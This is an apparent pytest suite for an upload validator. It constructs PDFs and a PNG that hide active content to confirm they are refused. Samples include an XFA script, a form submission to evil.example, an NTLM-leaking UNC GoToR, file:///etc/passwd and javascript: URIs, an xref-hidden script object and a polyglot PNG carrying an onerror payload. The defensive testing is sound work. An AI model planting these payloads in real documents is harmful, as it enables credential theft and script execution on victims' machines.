"""Security review: PDFs whose active content hides from the raw-bytes markup check."""

from __future__ import annotations

import io
import re

import pytest
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    TextStringObject,
)

from documents import validation as v

XFA = (b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize">'
       b'<script contentType="application/x-javascript">app.launchURL("https://evil.example")</script>'
       b"</event></subform></template></xdp:xdp>")


def _write(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def pdf_with_compressed_xfa_script() -> bytes:
    """An XFA form (Acrobat runs its scripts): the XML is Flate-compressed, so no `<script` in the bytes."""
    writer = PdfWriter()
    writer.add_blank_page(width=612, height=792)
    stream = DecodedStreamObject()
    stream.set_data(XFA)
    stream = stream.flate_encode()
    form = DictionaryObject({NameObject("/Fields"): ArrayObject(),
                             NameObject("/XFA"): writer._add_object(stream)})
    writer._root_object[NameObject("/AcroForm")] = writer._add_object(form)
    return _write(writer)


def pdf_opening_with_a_form_submission() -> bytes:
    """An OpenAction that posts the document's form data to a server of the sender's choice."""
    writer = PdfWriter()
    writer.add_blank_page(width=612, height=792)
    action = DictionaryObject({NameObject("/S"): NameObject("/SubmitForm"),
                               NameObject("/F"): TextStringObject("https://evil.example/collect")})
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return _write(writer)


@pytest.mark.parametrize("make", [pdf_with_compressed_xfa_script, pdf_opening_with_a_form_submission])
def test_a_pdf_with_hidden_active_content_is_refused(make):
    data = make()
    assert data.startswith(b"%PDF-") and b"<script" not in data.lower()
    with pytest.raises(v._Refused) as caught:
        v.check_content(data, max_pixels=4_000_000)
    assert "scripts, launch actions or attached files" in caught.value.message



def pdf_with_direct_open_action_script() -> bytes:
    """The script's action written inside the catalog (a direct dictionary), not as an object of its own."""
    writer = PdfWriter()
    writer.add_blank_page(width=612, height=792)
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject({
        NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject("app.alert(1)")})
    return _write(writer)


def pdf_with_link_annotation_script() -> bytes:
    """A page's link whose action (a direct dictionary in a direct annotation) runs a script."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=612, height=792)
    action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                               NameObject("/JS"): TextStringObject("app.alert(1)")})
    annotation = DictionaryObject({NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"):
                                   NameObject("/Link"), NameObject("/A"): action})
    page[NameObject("/Annots")] = ArrayObject([annotation])
    return _write(writer)


def pdf_with_indirect_action_type() -> bytes:
    """The action's /S is a reference to the name /JavaScript, not the name itself."""
    writer = PdfWriter()
    writer.add_blank_page(width=612, height=792)
    kind = writer._add_object(NameObject("/JavaScript"))
    action = DictionaryObject({NameObject("/S"): kind, NameObject("/F"): TextStringObject("x")})
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return _write(writer)


def pdf_with_unlisted_script_object() -> bytes:
    """The script's object is in the file but marked free in the cross-reference table (a viewer that
    repairs the file by scanning finds it)."""
    data = _pdf_indirect_open_action()
    start = data.rfind(b"\nxref\n") + 1
    table = data[start:].split(b"\n")
    number = int(re.search(rb"(\d+) 0 obj\s*<<\s*/S /JavaScript", data).group(1))
    table[2 + number] = b"0000000000 65535 f "
    return data[:start] + b"\n".join(table)


def _pdf_indirect_open_action() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=612, height=792)
    action = DictionaryObject({NameObject("/S"): NameObject("/JavaScript"),
                               NameObject("/JS"): TextStringObject("app.alert(1)")})
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    return _write(writer)


@pytest.mark.parametrize("make", [pdf_with_direct_open_action_script, pdf_with_link_annotation_script,
                                  pdf_with_indirect_action_type, pdf_with_unlisted_script_object])
def test_a_script_written_anywhere_in_a_pdf_is_refused(make):
    with pytest.raises(v._Refused) as caught:
        v.check_content(make(), max_pixels=4_000_000)
    assert "scripts, launch actions or attached files" in caught.value.message


def test_a_pdf_with_ordinary_links_and_many_pages_still_passes():
    writer = PdfWriter()
    for _ in range(30):
        page = writer.add_blank_page(width=612, height=792)
        link = DictionaryObject({NameObject("/S"): NameObject("/URI"),
                                 NameObject("/URI"): TextStringObject("https://www.canada.ca/")})
        page[NameObject("/Annots")] = ArrayObject([DictionaryObject({
            NameObject("/Type"): NameObject("/Annot"), NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/A"): link})])
    assert v.check_content(_write(writer), max_pixels=4_000_000) == v.PDF


def _pdf_with_objects(count: int) -> bytes:
    """A valid one-page PDF padded with `count` tiny objects (~55 bytes each)."""
    parts, offsets = [b"%PDF-1.4\n"], []
    size = len(parts[0])
    bodies = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
              b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"]
    bodies += [b"<< /A [1 2 3] >>"] * count
    for number, body in enumerate(bodies, start=1):
        chunk = b"%d 0 obj\n%s\nendobj\n" % (number, body)
        offsets.append(size)
        parts.append(chunk)
        size += len(chunk)
    total = len(bodies) + 1
    parts.append(b"xref\n0 %d\n0000000000 65535 f \n" % total)
    parts += [b"%010d 00000 n \n" % offset for offset in offsets]
    parts.append(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (total, size))
    return b"".join(parts)


def test_a_pdf_of_too_many_objects_is_refused_before_it_is_walked():
    """Each object costs ~60 µs to check; 10 files of 200,000 objects (10 MB each, within the size
    limit) were two minutes of CPU for one request. A real document has a few thousand."""
    assert v.check_content(_pdf_with_objects(2_000), max_pixels=4_000_000) == v.PDF
    data = _pdf_with_objects(25_000)
    assert len(data) < 2 * 1024 * 1024
    with pytest.raises(v._Refused) as caught:
        v.check_content(data, max_pixels=4_000_000)
    assert "too complex" in caught.value.message


def test_a_png_with_a_page_appended_before_a_fake_end_is_refused():
    """The page has no <html> or <script> (an <img onerror> is enough for a browser that renders it),
    and the file ends with a copy of an IEND chunk: only the first IEND ends the image."""
    from documents.tests import samples

    png = samples.png()
    iend = png[-12:]
    assert iend[4:8] == b"IEND"
    hostile = png + b"<body><img src=x onerror=alert(document.domain)></body>" + iend
    with pytest.raises(v._Refused) as caught:
        v.check_content(hostile, max_pixels=4_000_000)
    assert "appended after the end of the PNG" in caught.value.message
    assert v.check_content(png, max_pixels=4_000_000) == v.PNG


def _pdf_opening(action: dict) -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(width=612, height=792)
    entries = {NameObject(key): NameObject(value) if value.startswith("/") else TextStringObject(value)
               for key, value in action.items()}
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(entries)
    return _write(writer)


@pytest.mark.parametrize("action", [
    {"/S": "/GoToR", "/F": "\\\\evil.example\\share\\x.pdf"},  # Windows sends the NTLM hash to the share
    {"/S": "/URI", "/URI": "javascript:alert(1)"},
    {"/S": "/URI", "/URI": "file:///etc/passwd"},
    {"/S": "/URI", "/URI": "\\\\evil.example\\share"},
])
def test_a_pdf_reaching_a_file_share_or_a_script_url_is_refused(action):
    with pytest.raises(v._Refused) as caught:
        v.check_content(_pdf_opening(action), max_pixels=4_000_000)
    assert "scripts, launch actions or attached files" in caught.value.message


def test_a_pdf_opening_a_web_page_passes():
    assert v.check_content(_pdf_opening({"/S": "/URI", "/URI": "https://www.canada.ca/"}),
                           max_pixels=4_000_000) == v.PDF
